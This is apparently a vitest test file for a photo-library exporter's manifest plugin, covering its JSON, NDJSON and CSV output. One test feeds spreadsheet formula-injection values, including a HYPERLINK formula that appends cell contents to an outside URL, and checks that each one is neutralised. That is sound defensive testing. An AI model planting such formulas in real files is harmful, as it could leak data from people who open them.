import { lstat, readdir, readFile, utimes } from 'node:fs/promises'
import { join } from 'node:path'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { describe, expect, test } from 'vitest'
import folder from '../../plugins/folder/index.ts'
import manifest from '../../plugins/manifest/index.ts'
import { json } from '../../plugins/manifest/json.ts'
import schema from '../../plugins/manifest/manifest.schema.json' with { type: 'json' }
import type { AlbumRecord, ImageRecord } from '../../plugins/manifest/records.ts'
import zip from '../../plugins/zip/index.ts'
import type { Album, Image, ListedAlbum } from '../../src/exporter/index.ts'
import { demoWorld } from '../../src/simulator/demo.ts'
import { World } from '../../src/simulator/world.ts'
import { type AtHome, accountAtHome, look } from './account-at-home.ts'

const ajv = new Ajv2020({ strict: true, allErrors: true, strictTypes: false, strictRequired: false })
ajv.addSchema(schema, 'manifest')

/** What an independent reader of the schema has against a value. */
function problems(value: unknown, reference = 'manifest'): unknown[] {
  const validate = ajv.getSchema(reference)
  if (validate === undefined) throw new Error(`no ${reference}`)
  return validate(value) ? [] : (validate.errors ?? [])
}

interface Document {
  albums: (AlbumRecord & { images: ImageRecord[] })[]
}

async function document({ output }: AtHome): Promise<Document> {
  return JSON.parse(await readFile(join(output, 'manifest.json'), 'utf8'))
}

const imagesIn = ({ albums }: Document) => albums.flatMap(({ images }) => images)

test('alone it downloads nothing, lists all in its order, and the run says that nothing is at home', async () => {
  await using home = await accountAtHome(demoWorld())
  const { summary, downloads } = await home.run([manifest])
  expect({ downloads, listedOnly: summary?.listedOnly }).toEqual({ downloads: 0, listedOnly: { filesAtHome: 0 } })
  const found = await document(home)
  expect(problems(found)).toEqual([])
  const listed = [...home.smugmug.listing()].map(({ albumKey, imageKey }) => `${albumKey} ${imageKey}`)
  const keys = found.albums.flatMap(({ key, images }) => images.map((image) => `${key} ${image.key}`))
  expect(new Set(keys)).toEqual(new Set(listed))
  expect(keys.length).toBe(listed.length)
  for (const { images } of found.albums)
    expect(images.map(({ position }) => position)).toEqual(images.map((_, index) => index))
  expect(new Set(imagesIn(found).map(({ state }) => state))).toEqual(new Set(['listed']))
  expect(imagesIn(found).every(({ raw, file }) => raw.ImageKey !== undefined && file === undefined)).toBe(true)
})

test('alone in a later run, it counts each picture at home once, whichever exporters have it', async () => {
  const world = new World()
  world.addImage(world.addAlbum({ name: 'Rome' }), { fileName: 'a.jpg' })
  await using home = await accountAtHome(world)
  await home.run([folder, zip])
  expect((await home.run([manifest])).summary?.listedOnly).toEqual({ filesAtHome: 1 })
})

test('copied with the whole home, which loses its time, the list is still ours and written again', async () => {
  const world = new World()
  const rome = world.addAlbum({ name: 'Rome' })
  world.addImage(rome, { fileName: 'a.jpg' })
  await using home = await accountAtHome(world)
  await home.run([manifest])
  await utimes(join(home.output, 'manifest.json'), 1000, 1000)
  world.addImage(rome, { fileName: 'b.jpg' })
  await home.run([manifest])
  expect((await readdir(home.output)).sort()).toEqual(['.smugdl', 'manifest.json'])
  expect(imagesIn(await document(home))).toHaveLength(2)
})

describe('beside exporters that want bytes', () => {
  const world = () => {
    const world = new World()
    const rome = world.addAlbum({ name: 'Rome', in: world.addFolder({ name: 'Travel' }) })
    world.addImage(rome, { fileName: 'a.jpg', title: 'Forum, "early"', capturedAt: '1975-06-01T10:00:00' })
    world.addVideo(rome, { fileName: 'clip.mov' })
    world.addImage(rome, { fileName: 'refused.jpg', rights: 'none' })
    world.addImage(rome, { fileName: 'unwanted.jpg', rights: 'none' })
    world.addImage(rome, { fileName: 'small.jpg', rights: 'largest' })
    world.addAlbum({ name: 'Empty' })
    return world
  }

  test('it tells hashes, where each has an image, and why one is not there', async () => {
    await using home = await accountAtHome(world())
    await home.run([folder])
    const unwanted = [...home.smugmug.world.images.values()].find(({ fileName }) => fileName === 'unwanted.jpg')
    if (unwanted === undefined) throw new Error('it is gone')
    look(home, ({ accepted }) => accepted.put({ key: unwanted.key, reason: 'a test picture', acceptedAt: 0 }))
    const { downloads } = await home.run([folder, zip, manifest], { full: true })
    expect(downloads).toBe(0)
    const found = await document(home)
    expect(problems(found)).toEqual([])
    expect(found.albums.map(({ directory, images }) => [directory, images.length])).toEqual([
      ['Empty', 0],
      ['Travel/Rome', 5],
    ])
    const md5 = new Map([...home.smugmug.listing()].map(({ imageKey, md5 }) => [imageKey, md5]))
    expect(imagesIn(found).map(({ name, state, file, reason }) => [name, state, file?.kind, reason])).toEqual([
      ['a.jpg', 'delivered', 'original', undefined],
      ['clip.mp4', 'delivered', 'transcode', undefined],
      ['refused.jpg', 'failed', undefined, expect.any(String)],
      ['unwanted.jpg', 'accepted', undefined, 'a test picture'],
      ['small.jpg', 'delivered', 'rendition', undefined],
    ])
    for (const { key, file, name, deliveries } of imagesIn(found)) {
      if (file === undefined) continue
      expect(file.md5).toBe(md5.get(key))
      expect(deliveries).toEqual({
        folder: {
          path: `Travel/Rome/${name}`,
          ...(name === 'a.jpg' && { sidecars: [`Travel/Rome/${name}.xmp`] }),
        },
        zip: expect.objectContaining({ path: 'Travel/Rome.zip', entry: name }),
      })
    }
  })

  test('as ndjson each line is a record of the schema, an image after its album', async () => {
    await using home = await accountAtHome(world())
    await home.run([folder, manifest], { set: ['manifest.format=ndjson'] })
    const lines = (await readFile(join(home.output, 'manifest.ndjson'), 'utf8')).trimEnd().split('\n')
    const records = lines.map((line) => JSON.parse(line))
    expect(records.map(({ type }) => type).join(' ')).toBe(
      'manifest account folder album album image image image image image',
    )
    expect(records.flatMap((record) => problems(record, 'manifest#/$defs/line'))).toEqual([])
    expect(problems({ type: 'image' }, 'manifest#/$defs/line')).not.toEqual([])
  })

  test('as csv it is a table that no spreadsheet runs', async () => {
    const hostile = new World()
    const album = hostile.addAlbum({ name: '=1+1' })
    hostile.addImage(album, {
      fileName: '-2.jpg',
      title: '@SUM(A1)',
      caption: '=HYPERLINK("https://example.com/?"&A1,"see, here")\nmore',
      gps: { latitude: -41.3, longitude: 174.8, altitude: 5 },
    })
    hostile.addImage(album, { fileName: "'quoted.jpg", title: '+49 30', caption: '\t=1' })
    await using home = await accountAtHome(hostile)
    await home.run([folder, manifest], { set: ['manifest.format=csv'] })
    const text = await readFile(join(home.output, 'manifest.csv'), 'utf8')
    expect(text.startsWith('\uFEFFalbum,albumKey,imageKey,')).toBe(true)
    const [names = [], ...rows] = parsedCsv(text.slice(1))
    const table = rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index]])))
    expect(table).toMatchObject([
      {
        album: "'=1+1",
        fileName: "'-2.jpg",
        title: "'@SUM(A1)",
        caption: '\'=HYPERLINK("https://example.com/?"&A1,"see, here")\nmore',
        latitude: '-41.3',
        state: 'delivered',
        places: 'folder: =1+1/-2.jpg',
      },
      { fileName: "''quoted.jpg", title: "'+49 30" },
    ])
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/)
  })
})

test('as csv the albums are a table of their own, those without images too', async () => {
  const world = new World()
  const rome = world.addAlbum({ name: 'Rome', in: world.addFolder({ name: 'Travel' }), privacy: 'Private' })
  world.addImage(rome, { fileName: 'a.jpg' })
  world.addImage(rome, { fileName: 'refused.jpg', rights: 'none' })
  world.addAlbum({ name: 'Empty' })
  await using home = await accountAtHome(world)
  await home.run([folder, manifest], { set: ['manifest.format=csv'] })
  const [names = [], ...rows] = parsedCsv((await readFile(join(home.output, 'manifest-albums.csv'), 'utf8')).slice(1))
  const table = rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index]])))
  expect(table).toMatchObject([
    { album: 'Empty', directory: 'Empty', listed: '0', announced: '0' },
    { album: 'Travel / Rome', directory: 'Travel/Rome', listed: '2', failed: '1', privacy: 'Private' },
  ])
})

test('the same account gives the same manifest, which is not written again; a change is a change of its lines', async () => {
  const world = new World()
  const album = world.addAlbum({ name: 'Rome' })
  const images = ['a.jpg', 'b.jpg', 'c.jpg'].map((fileName) => world.addImage(album, { fileName }))
  await using home = await accountAtHome(world)
  const path = join(home.output, 'manifest.json')
  await home.run([folder, manifest])
  const first = { text: await readFile(path, 'utf8'), inode: (await lstat(path)).ino }
  await home.run([folder, manifest], { full: true, now: Date.now() + 5000 })
  expect({ text: await readFile(path, 'utf8'), inode: (await lstat(path)).ino }).toEqual(first)
  if (images[1] !== undefined) world.editImage(images[1], { title: 'Forum' })
  await home.run([folder, manifest], { full: true })
  const before = first.text.split('\n')
  const after = (await readFile(path, 'utf8')).split('\n')
  expect(after.length).toBe(before.length)
  expect(
    after.filter((line, index) => line !== before[index]).map((line) => JSON.parse(line.replace(/,$/, '')).title),
  ).toEqual(['Forum'])
})

test('an account with 100,000 images is written in flat memory', async () => {
  const image = { keywords: [], raw: { text: 'x'.repeat(1000) } } as unknown as Image
  const listing = async function* (): AsyncGenerator<ListedAlbum> {
    for (let album = 0; album < 20; album++)
      yield {
        album: { key: `${album}`, folders: [], path: [], directory: ['a'], raw: {} } as unknown as Album,
        async *images() {
          for (let position = 0; position < 5000; position++) yield { image, state: 'listed', deliveries: {} }
        },
      }
  }
  let written = 0
  let most = 0
  const before = process.memoryUsage().heapUsed
  for await (const line of json({ nickName: '', name: '', raw: {} }, listing)) {
    written += line.length
    if (written % 1000 < 10) most = Math.max(most, process.memoryUsage().heapUsed - before)
  }
  expect(written).toBeGreaterThan(100_000_000)
  expect(most).toBeLessThan(60_000_000)
})

test('an album that is called like the manifest gives way to it, whatever comes first', async () => {
  const world = new World()
  world.addImage(world.addAlbum({ name: 'Manifest.JSON' }), { fileName: 'a.jpg' })
  await using home = await accountAtHome(world)
  const { summary } = await home.run([folder, manifest])
  expect(summary).toMatchObject({ failedInAll: 0, notices: [] })
  expect((await document(home)).albums[0]?.directory).toMatch(/^Manifest\.JSON \[\w+\]$/)
})

/** RFC 4180, strictly. */
function parsedCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}
